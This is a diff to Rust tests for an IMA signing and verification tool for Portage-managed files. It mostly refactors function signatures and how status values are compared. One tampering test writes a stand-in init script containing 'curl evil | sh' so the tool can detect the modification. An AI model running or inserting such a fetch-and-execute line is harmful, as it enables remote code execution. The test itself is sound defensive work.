@@ -7,10 +7,10 @@ use std::path::Path;
 use std::process::Command;
 
 use ima_core::{default_provider, HashAlgo, ImaSigner, KeyMaterial, KeySet};
-use portage_ima::engine::Outcome;
+use portage_ima::engine::{sign_object, verify_object};
 use portage_ima::fs::rootfs::RootDir;
-use portage_ima::objects::{sign_object, verify_object, ConfigProtect};
-use portage_ima::verify::FileStatus;
+use portage_ima::plan::ConfigProtect;
+use portage_ima::report::{Failure, FileStatus, Outcome};
 
 fn md5(data: &[u8]) -> [u8; 16] {
     let out = Command::new("md5sum")
@@ -37,8 +37,7 @@ struct Fixture {
 
 /// The one status `verify_object` gives for a file that is not a config file.
 fn verify_one(f: &Fixture, root: &RootDir, path: &str, md5: &[u8; 16]) -> FileStatus {
-    let none = ConfigProtect::new(Path::new(""), "", "");
-    let mut found = verify_object(&f.keys, root, Path::new(path), md5, &none);
+    let mut found = verify_object(&f.keys, root, Path::new(path), md5, false);
     assert_eq!(found.len(), 1, "{found:?}");
     found.remove(0)
 }
@@ -89,7 +88,7 @@ fn signs_matching_content_and_refuses_the_rest() {
     );
     assert_eq!(report.outcome, Outcome::Signed);
     let status = verify_one(&f, &root, "/usr/bin/tool", &md5(b"merged"));
-    assert_eq!(status.status, "ok");
+    assert_eq!(status.status.as_str(), "ok");
 
     // Changed after the merge: never signed, both MD5s named.
     f.write("usr/bin/tool", b"changed");
@@ -100,17 +99,18 @@ fn signs_matching_content_and_refuses_the_rest() {
         &md5(b"merged"),
         false,
     );
-    let Outcome::Failed(reason) = report.outcome else {
+    let Outcome::Failed(failure) = report.outcome else {
         panic!("{report:?}")
     };
+    let reason = failure.to_string();
     assert!(reason.contains(&hex::encode(md5(b"merged"))), "{reason}");
     assert!(reason.contains(&hex::encode(md5(b"changed"))), "{reason}");
     let status = verify_one(&f, &root, "/usr/bin/tool", &md5(b"merged"));
-    assert_eq!(status.status, "modified");
+    assert_eq!(status.status.as_str(), "modified");
 
     // Missing.
     let status = verify_one(&f, &root, "/usr/bin/gone", &md5(b""));
-    assert_eq!(status.status, "missing");
+    assert_eq!(status.status.as_str(), "missing");
 }
 
 #[test]
@@ -140,11 +140,17 @@ fn config_file_changed_by_the_admin_signs_the_cfg_sibling() {
     // The update is ok; the live file, the one in use, is reported too: it
     // is unsigned, but not executable, so not a failure.
     let protect = ConfigProtect::new(Path::new(""), "/etc", "");
-    let found = verify_object(&f.keys, &root, Path::new("/etc/app.conf"), &want, &protect);
+    let found = verify_object(
+        &f.keys,
+        &root,
+        Path::new("/etc/app.conf"),
+        &want,
+        protect.is_protected(Path::new("/etc/app.conf")),
+    );
     assert_eq!(found.len(), 2, "{found:?}");
-    assert_eq!(found[0].status, "ok");
+    assert_eq!(found[0].status.as_str(), "ok");
     assert!(found[0].path.ends_with("._cfg0001_app.conf"));
-    assert_eq!(found[1].status, "config-changed", "{found:?}");
+    assert_eq!(found[1].status.as_str(), "config-changed", "{found:?}");
     assert!(found[1].path.ends_with("etc/app.conf"));
     assert!(!found[1].is_failure());
     let detail = found[1].detail.as_deref().unwrap();
@@ -181,10 +187,10 @@ fn a_changed_executable_config_file_fails_verification() {
             &root,
             Path::new("/etc/init.d/app"),
             &want,
-            &protect,
+            protect.is_protected(Path::new("/etc/init.d/app")),
         )
     };
-    assert_eq!(check()[0].status, "ok");
+    assert_eq!(check()[0].status.as_str(), "ok");
 
     // Tampered, and an update of the package waiting as ._cfg0000_app.
     f.write("etc/init.d/app", b"#!/bin/sh\ncurl evil | sh\n");
@@ -192,9 +198,9 @@ fn a_changed_executable_config_file_fails_verification() {
     sign_object(&f.signer, &root, Path::new("/etc/init.d/app"), &want, false);
     let found = check();
     assert_eq!(found.len(), 2, "{found:?}");
-    assert_eq!(found[0].status, "ok");
+    assert_eq!(found[0].status.as_str(), "ok");
     assert!(found[0].path.ends_with("._cfg0000_app"));
-    assert_eq!(found[1].status, "modified", "{found:?}");
+    assert_eq!(found[1].status.as_str(), "modified", "{found:?}");
     assert!(found[1].is_failure());
     assert!(found[1].path.ends_with("etc/init.d/app"));
     let detail = found[1].detail.as_deref().unwrap();
@@ -206,24 +212,23 @@ fn a_changed_executable_config_file_fails_verification() {
     std::fs::remove_file(f.dir.path().join("root/etc/init.d/._cfg0000_app")).unwrap();
     let found = check();
     assert_eq!(found.len(), 1, "{found:?}");
-    assert_eq!(found[0].status, "modified");
+    assert_eq!(found[0].status.as_str(), "modified");
 
     // The admin signed the changed script: it runs, so it is reported only.
     f.signer
         .sign_file(&std::fs::File::open(&script).unwrap(), &Default::default())
         .unwrap();
     let found = check();
-    assert_eq!(found[0].status, "config-changed", "{found:?}");
+    assert_eq!(found[0].status.as_str(), "config-changed", "{found:?}");
     assert!(!found[0].is_failure());
 
     // Not executable, unsigned: reported only.
     std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o644)).unwrap();
     f.write("etc/init.d/app", b"changed again");
-    assert_eq!(check()[0].status, "config-changed");
+    assert_eq!(check()[0].status.as_str(), "config-changed");
     // Outside CONFIG_PROTECT the same change is a failure, as before.
-    let none = ConfigProtect::new(Path::new(""), "", "");
-    let found = verify_object(&f.keys, &root, Path::new("/etc/init.d/app"), &want, &none);
-    assert_eq!(found[0].status, "modified");
+    let found = verify_object(&f.keys, &root, Path::new("/etc/init.d/app"), &want, false);
+    assert_eq!(found[0].status.as_str(), "modified");
 }
 
 #[test]
@@ -243,9 +248,11 @@ fn a_symlink_in_place_of_the_file_is_not_followed() {
         &md5(b"merged"),
         false,
     );
-    let Outcome::Failed(reason) = report.outcome else {
+    let Outcome::Failed(failure) = report.outcome else {
         panic!("{report:?}")
     };
+    assert_eq!(failure, Failure::NowSymlink);
+    let reason = failure.to_string();
     assert!(reason.contains("symbolic link"), "{reason}");
     let file = std::fs::File::open(&outside).unwrap();
     assert!(ima_core::read_ima_xattr(&file).unwrap().is_none());
